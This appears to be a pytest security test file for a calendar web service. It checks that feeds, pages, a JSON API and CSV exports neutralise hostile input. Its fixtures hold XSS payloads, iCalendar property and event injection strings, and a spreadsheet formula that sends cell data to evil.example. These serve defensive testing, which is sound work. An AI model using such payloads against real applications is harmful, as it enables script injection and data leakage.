"""Hostile text in titles, locations and notes: feeds carry it exactly, pages escape it.

Texts with CR/LF, ``;``, ``,``, ``\\``, ``:``, 10 kB, emoji, umlauts, RTL, NUL and attempts to
inject iCalendar properties or HTML are stored through the models, then fetched from the
real endpoints. Documented normalisation (where iCalendar cannot carry a character):

* every text: NUL is dropped when stored (PostgreSQL cannot hold it; ``calsvc.models.base``),
  other control characters except TAB and LF are dropped in feeds, CR LF and CR become LF;
* SUMMARY and LOCATION are single lines (``feeds.text.clean_line``): line breaks, tabs and
  runs of white space become one space, ends are trimmed.

The JSON API returns the stored text unchanged (only without NUL).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import datetime, time, timedelta
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from sqlalchemy import select

from calsvc.db import session_scope
from calsvc.models import (
    Activity,
    ActivityPeriod,
    ExtraDate,
    Gremium,
    MeetingSeries,
    Membership,
    Person,
    SeriesException,
)
from calsvc.schedule.rrule import normalize_rrule
from calsvc.schedule.walltime import BERLIN
from calsvc.web.security import CONTENT_SECURITY_POLICY

from .browser_support import chromium, live_server
from .editing_support import PASSWORD, login, make_user
from .interop.parsers import EventTexts, texts_icalendar, texts_icaljs, texts_libical

SLUG = "ag-injektion"
XSS = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
GREMIUM_NAME = "AG „Vielfalt“ & Co; Teil 1, 2 \\ :\r\nATTENDEE:mailto:evil@example.org " + XSS[:40]
TITLE = (
    "Sitzung\r\nATTENDEE:mailto:evil@example.org\r\nX-INJ:1; a,b \\n \\ : „Grüße“ 😀 Ölmühle ß "
    "שלום עולם \u202eRTL\u202c مرحبا\x00Ende " + XSS
)
LOCATION = (
    'Raum 1; Etage 2, Flur \\ Tür: A\rORGANIZER:mailto:evil@example.org\n<img src=x onerror="window.__pwned=3">\x00'
)
NEW_LOCATION = "Saal\r\n\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM\r\n; , \\ : 🎉"
EXTRA_LOCATION = "\tGarten \\n ; \\, ‏ימין‎ \x00 \x07 ende"
INJECTED_BLOCK = "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil@example.org\r\nSUMMARY:evil\r\nATTENDEE:mailto:evil@x\r\n"
LINE = "Zeile {n:03d}: ä ö ü ß Ä Ö Ü 😀 ; , \\ : \\n \t Tab | שלום | مرحبا\x0b|\x1f|\x7f|\x85|\r\n"
DESCRIPTION = (XSS + INJECTED_BLOCK + "".join(LINE.format(n=n) for n in range(200)))[:10_400] + "\x00Schluss"
NOTE = "Verlegt!\rSTATUS:CANCELLED\r\nX-INJ:2 " + XSS + "\x00"
EXTRA_NOTE = "Zusatztermin\nDTSTART:19700101T000000Z\\;" + "x" * 10_000
ACTIVITY_TITLE = ("Aktivität " + XSS + " " + TITLE + " ") * 40  # ~10 kB, Activity.title is TEXT
assert len(DESCRIPTION) > 10_240 and len(ACTIVITY_TITLE) > 10_240 and len(TITLE) <= 300

_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ALLOWED_PROPERTIES = {
    "SUMMARY", "DTSTART", "DTEND", "DTSTAMP", "UID", "SEQUENCE", "RRULE", "EXDATE", "CATEGORIES", "CREATED",
    "DESCRIPTION", "LAST-MODIFIED", "LOCATION", "STATUS", "URL", "RECURRENCE-ID", "TRANSP",
}  # fmt: skip


def stored(text: str) -> str:
    """What the database keeps: the text without NUL."""
    return text.replace("\x00", "")


def as_text(text: str) -> str:
    """A multi-line TEXT value as feeds carry it: line breaks as LF, no control characters."""
    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def as_line(text: str) -> str:
    """A single-line value (SUMMARY, LOCATION): white space runs become one space."""
    return " ".join(as_text(text).split())


@pytest.fixture
def hostile(app: Flask) -> dict[str, Any]:
    """A Gremium with a weekly series (one moved occurrence, one extra date) and an activity."""
    today = datetime.now(BERLIN).date()
    start = datetime.combine(today + timedelta(days=7), time(10))
    with app.app_context(), session_scope(app) as s:
        person = Person(code="IntB", title="Integrationsbeauftragte")
        gremium = Gremium(slug=SLUG, name=GREMIUM_NAME)
        gremium.memberships.append(Membership(person=person, role="lead"))
        series = MeetingSeries(
            gremium=gremium,
            title=TITLE,
            dtstart=start,
            duration_minutes=90,
            rrule=normalize_rrule("FREQ=WEEKLY;COUNT=4", start),
            location=LOCATION,
            description=DESCRIPTION,
        )
        moved = start + timedelta(days=7)
        series.exceptions.append(
            SeriesException(
                recurrence_id=moved, new_start=moved + timedelta(hours=1), new_location=NEW_LOCATION, note=NOTE
            )
        )
        series.extra_dates.append(ExtraDate(start=start + timedelta(days=3), location=EXTRA_LOCATION, note=EXTRA_NOTE))
        activity = Activity(
            plan_year=today.year, number=1, title=ACTIVITY_TITLE, terminierung="Dezember", responsible=[person]
        )
        activity.periods.append(
            ActivityPeriod(
                position=0, start=today + timedelta(days=10), end=today + timedelta(days=40), precision="month"
            )
        )
        other = Gremium(slug="parallel", name="Parallelrunde")
        other.memberships.append(Membership(person=person, role="lead"))
        clash = MeetingSeries(gremium=other, title="Parallel " + XSS, dtstart=start, duration_minutes=30, location=XSS)
        s.add_all([series, activity, clash])  # the clash puts the hostile title on /konflikte
        s.flush()
        return {"series": series.id, "activity": activity.id, "start": start, "moved": moved}


# ---------------------------------------------------------------- storage


def test_the_database_keeps_everything_but_nul(app: Flask, hostile: dict[str, Any]) -> None:
    with app.app_context(), session_scope(app) as s:
        series = s.get(MeetingSeries, hostile["series"])
        assert series is not None
        assert (series.title, series.location, series.description) == (
            stored(TITLE),
            stored(LOCATION),
            stored(DESCRIPTION),
        )
        assert series.exceptions[0].note == stored(NOTE)
        assert series.extra_dates[0].location == stored(EXTRA_LOCATION)
        assert s.scalar(select(Gremium.name).where(Gremium.slug == SLUG)) == GREMIUM_NAME
        assert s.scalar(select(Activity.title)) == stored(ACTIVITY_TITLE)


# ---------------------------------------------------------------- feeds

READERS: dict[str, Callable[[bytes], list[EventTexts]]] = {
    "icalendar": texts_icalendar,
    "libical": texts_libical,
    "ical.js": texts_icaljs,
}


def unfolded_lines(ics: bytes) -> list[str]:
    return ics.decode("utf-8").replace("\r\n ", "").replace("\r\n\t", "").split("\r\n")


def assert_no_injection(ics: bytes, events: list[EventTexts], expected_uids: set[str]) -> None:
    """No content line or VEVENT property the attacker wrote; exactly the expected VEVENTs."""
    names = {re.split("[;:]", line, maxsplit=1)[0] for line in unfolded_lines(ics) if line}
    assert not names & {"ATTENDEE", "ORGANIZER", "X-INJ", "ACTION"}, names
    assert unfolded_lines(ics).count("BEGIN:VEVENT") == len(events)
    assert "BEGIN:VALARM" not in unfolded_lines(ics)
    for event in events:
        assert set(event["properties"]) <= ALLOWED_PROPERTIES, event["properties"]
    assert {e["uid"] for e in events} == expected_uids


@pytest.mark.interop
@pytest.mark.parametrize("reader", list(READERS))
def test_gremium_feed_reads_back_exactly_the_stored_text(client: Any, hostile: dict[str, Any], reader: str) -> None:
    response = client.get(f"/feeds/gremium/{SLUG}.ics")
    assert response.status_code == 200
    ics = response.get_data()
    events = READERS[reader](ics)
    series_uid, extra_uid = "series-{}@test.calsvc".format(hostile["series"]), "extra-1@test.calsvc"
    assert_no_injection(ics, events, {series_uid, extra_uid})
    by_kind = {("override" if e["recurrence_id"] else e["uid"].split("-")[0]): e for e in events}
    assert set(by_kind) == {"series", "override", "extra"}
    master, override, extra = by_kind["series"], by_kind["override"], by_kind["extra"]

    for event in (master, override, extra):
        assert event["summary"] == as_line(TITLE)
        assert as_text(DESCRIPTION) in event["description"]
        assert as_text(f"Gremium: {GREMIUM_NAME}") in event["description"]
    assert master["location"] == as_line(LOCATION)
    assert override["location"] == as_line(NEW_LOCATION)
    assert override["description"].startswith(as_text(NOTE) + "\n")
    assert extra["location"] == as_line(EXTRA_LOCATION)
    assert extra["description"].startswith(as_text(EXTRA_NOTE) + "\n")


@pytest.mark.interop
@pytest.mark.parametrize("reader", list(READERS))
def test_office_feeds_carry_a_10kb_activity_title(client: Any, hostile: dict[str, Any], reader: str) -> None:
    meetings = client.get("/feeds/all.ics").get_data()
    series_uids = {f"series-{hostile['series']}@test.calsvc", f"series-{hostile['series'] + 1}@test.calsvc"}
    assert_no_injection(meetings, READERS[reader](meetings), {*series_uids, "extra-1@test.calsvc"})
    response = client.get("/feeds/vorhaben/all.ics")
    assert response.status_code == 200
    ics = response.get_data()
    events = READERS[reader](ics)
    activity_uid = "activity-{}-0@test.calsvc".format(hostile["activity"])
    assert_no_injection(ics, events, {activity_uid})
    (activity,) = (e for e in events if e["uid"] == activity_uid)
    assert activity["summary"].startswith(as_line(ACTIVITY_TITLE) + " (")
    assert all(len(line) <= 75 for line in ics.split(b"\r\n"))  # folded, in octets


@pytest.mark.interop
def test_a_literal_backslash_capital_n_stays_text(client: Any, hostile: dict[str, Any], app: Flask) -> None:
    with app.app_context(), session_scope(app) as s:
        series = s.get(MeetingSeries, hostile["series"])
        assert series is not None
        series.title = "Pfad C:\\Neu\\N"
    ics = client.get(f"/feeds/gremium/{SLUG}.ics").get_data()
    for read in (texts_icalendar, texts_libical, texts_icaljs):
        assert {e["summary"] for e in read(ics)} == {"Pfad C:\\Neu\\N"}, read.__name__


# ---------------------------------------------------------------- pages and JSON


def html_pages(hostile: dict[str, Any]) -> list[str]:
    """Every page family that shows stored or reflected text (each shows the XSS string as text)."""
    start: datetime = hostile["start"]
    month = f"/agenda/{start:%Y}/{start:%m}"
    window = f"from={start.date()}&to={start.date() + timedelta(days=30)}"
    quarter = (start.month - 1) // 3 + 1
    return [
        "/",
        month,
        f"{month}/liste",
        f"{month}?gremium={SLUG}",
        "/uebersicht",
        f"/konflikte?{window}",
        f"/bericht/{datetime.now(BERLIN).year}/Q{quarter}",
        "/feeds/",
        f"/feeds/gremium/{SLUG}-gibt-es-nicht.ics",
        f"/konflikte?from={quote(XSS)}",  # reflected input: 422 page
        f"/konflikte?person={quote(XSS)}",  # reflected input: 404 page
    ]


def edit_pages(hostile: dict[str, Any]) -> list[str]:
    """The editor's pages showing the hostile texts in inputs and text areas."""
    return [
        "/bearbeiten/",
        f"/bearbeiten/serien/{hostile['series']}",
        f"/bearbeiten/serien/{hostile['series']}/termin/{hostile['moved']:%Y-%m-%dT%H:%M}",
        f"/bearbeiten/aktivitaeten/{hostile['activity']}",
        f"/bearbeiten/gremien/{SLUG}",
    ]


def assert_escaped(response: Any, path: str) -> None:
    assert response.mimetype == "text/html", path
    body = response.get_data(as_text=True)
    assert "<script>window.__pwned" not in body and "<img src=x" not in body, path
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in body, path  # it is shown, as text
    assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY


def test_edit_pages_escape_every_hostile_text(app: Flask, hostile: dict[str, Any], run_cli: Any) -> None:
    make_user(run_cli, "erika")
    client = app.test_client()
    assert login(client).status_code == 302
    for path in edit_pages(hostile):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_escaped(response, path)


def test_pages_escape_every_hostile_text(client: Any, hostile: dict[str, Any]) -> None:
    for path in html_pages(hostile):
        response = client.get(path)
        assert response.status_code in (200, 404, 422), path
        assert response.mimetype == "text/html", path
        body = response.get_data(as_text=True)
        assert "<script>window.__pwned" not in body and "<img src=x" not in body, path
        assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in body, path  # it is shown, as text
        assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
    body = client.get("/").get_data(as_text=True)
    assert stored(TITLE).replace("<", "&lt;").replace(">", "&gt;").split("\r\n")[0] in body


def test_api_returns_exactly_the_stored_text_as_json(client: Any, hostile: dict[str, Any]) -> None:
    series = client.get(f"/api/v1/series/{hostile['series']}")
    assert series.status_code == 200 and series.mimetype == "application/json"
    assert series.headers["X-Content-Type-Options"] == "nosniff"
    data = series.get_json()
    assert (data["title"], data["location"], data["description"]) == (
        stored(TITLE),
        stored(LOCATION),
        stored(DESCRIPTION),
    )
    gremium = client.get(f"/api/v1/gremien/{SLUG}").get_json()
    assert gremium["name"] == GREMIUM_NAME
    activity = client.get(f"/api/v1/activities/{hostile['activity']}").get_json()
    assert activity["title"] == stored(ACTIVITY_TITLE)
    first = hostile["start"].date()
    occurrences = client.get(f"/api/v1/occurrences?from={first}&to={first + timedelta(days=60)}&gremium={SLUG}")
    assert occurrences.status_code == 200
    titles = {o["title"] for o in occurrences.get_json()["occurrences"]}
    assert titles == {stored(TITLE)}
    raw = occurrences.get_data(as_text=True)
    assert json.loads(raw)["occurrences"][0]["title"] == stored(TITLE)


# ---------------------------------------------------------------- browser


@pytest.mark.browser
def test_no_injected_script_runs_in_the_browser(app: Flask, hostile: dict[str, Any], run_cli: Any) -> None:
    make_user(run_cli, "erika")
    with live_server(app) as base, chromium() as browser:
        page = browser.new_page()
        dialogs: list[str] = []
        errors: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        for path in html_pages(hostile):
            response = page.goto(base + path)
            assert response is not None and response.status in (200, 404, 422), path
            assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
            page.wait_for_load_state("load")
            assert page.evaluate("typeof window.__pwned") == "undefined", path
            assert page.locator("script:not([src])").count() == 0, path  # no inline script element at all
            assert page.locator("img[onerror]").count() == 0, path
            assert "<script>window.__pwned=1</script>" in page.inner_text("body"), path  # shown as text
        page.goto(base + "/anmelden")
        page.fill("input[name=name]", "erika")
        page.fill("input[name=password]", PASSWORD)
        with page.expect_navigation():
            page.click("form [type=submit]")
        for path in edit_pages(hostile):
            response = page.goto(base + path)
            assert response is not None and response.status == 200 and page.url == base + path, path
            assert page.evaluate("typeof window.__pwned") == "undefined", path
            assert page.locator("script:not([src])").count() == 0, path
            assert page.locator("img[onerror]").count() == 0, path
        assert not dialogs and not errors, (dialogs, errors)


def test_report_csv_never_starts_a_cell_with_a_formula(app: Flask) -> None:
    today = datetime.now(BERLIN).date()
    titles = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "Normal = gut"]
    with app.app_context(), session_scope(app) as s:
        person = Person(code="IntB", title="Integrationsbeauftragte")
        for number, title in enumerate(titles, start=1):
            activity = Activity(
                plan_year=today.year, number=number, title=title, terminierung="Mai", responsible=[person]
            )
            activity.periods.append(ActivityPeriod(position=0, start=today, end=today, precision="day"))
            s.add(activity)
    quarter = (today.month - 1) // 3 + 1
    response = app.test_client().get(f"/bericht/{today.year}/Q{quarter}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=";"))
    cells = {row[1] for row in rows[1 : 1 + len(titles)]}
    assert cells == {"'" + t for t in titles[:-1]} | {"Normal = gut"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
